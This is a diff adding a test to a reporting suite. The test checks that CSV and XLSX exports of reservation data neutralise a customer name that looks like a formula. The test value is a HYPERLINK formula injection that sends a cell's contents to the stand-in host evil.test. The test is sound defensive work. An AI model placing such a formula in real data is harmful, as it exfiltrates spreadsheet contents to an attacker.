@@ -286,6 +286,37 @@ describe.each(dbKinds)('reports (%s)', (kind) => {
     expect(lines.at(-1)).toContain('230,00');
   });
 
+  it('writes a name that looks like a formula as text: CSV neutralised (OWASP), XLSX a string cell; numbers stay numbers', async () => {
+    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
+    const [{ id, name }] = await server.db.query<{ id: string; name: string }>(
+      `select e.id_entity as id, e.name from reservation r join entity e using (id_entity)
+       where r.id_ou = $1 and r.reservation_date = $2::date limit 1`, [lim, today()]);
+    await server.db.query('update entity set name = $2 where id_entity = $1', [id, formula]);
+    try {
+      const params = { from: today(), to: today() };
+      for (const [locale, separator] of [['en', ','], ['es', ';']] as const) {
+        const csv = await run(admin, 'reservationsByStatus', params, 'csv', locale);
+        expect(csv.statusCode).toBe(200);
+        const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\r\n');
+        const line = lines.find((l) => l.includes('HYPERLINK'))!;
+        // Quoted (it holds quotes) and led by an apostrophe: a spreadsheet shows it, never runs it.
+        expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"`);
+        expect(lines.some((l) => l.split(separator).some((cell) => /^"?[=+@]/.test(cell)))).toBe(false);
+        // The amounts of the same line are plain numbers in the reader's format.
+        expect(line).toMatch(locale === 'en' ? /,"?\d[\d,]*\.\d{2}"?,/ : /;"?\d[\d.]*,\d{2}"?;/);
+      }
+      const xlsx = await run(admin, 'reservationsByStatus', params, 'xlsx', 'en');
+      const sheet = XLSX.read(xlsx.rawPayload, { type: 'buffer', cellFormula: true }).Sheets.Sheet1
+        ?? Object.values(XLSX.read(xlsx.rawPayload, { type: 'buffer', cellFormula: true }).Sheets)[0];
+      const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
+      const cell = cells.find((c) => String(c.v).includes('HYPERLINK'))!;
+      expect(cell).toMatchObject({ t: 's', v: formula });
+      expect(cells.some((c) => c.f)).toBe(false);
+    } finally {
+      await server.db.query('update entity set name = $2 where id_entity = $1', [id, name]);
+    }
+  });
+
   it('refuses bad parameters with the field and the reason, and changes nothing', async () => {
     const tables = ['reservation', 'reservation_item', 'payment', 'daily_cashier'];
     await expectTablesUnchanged(server, tables, async () => {
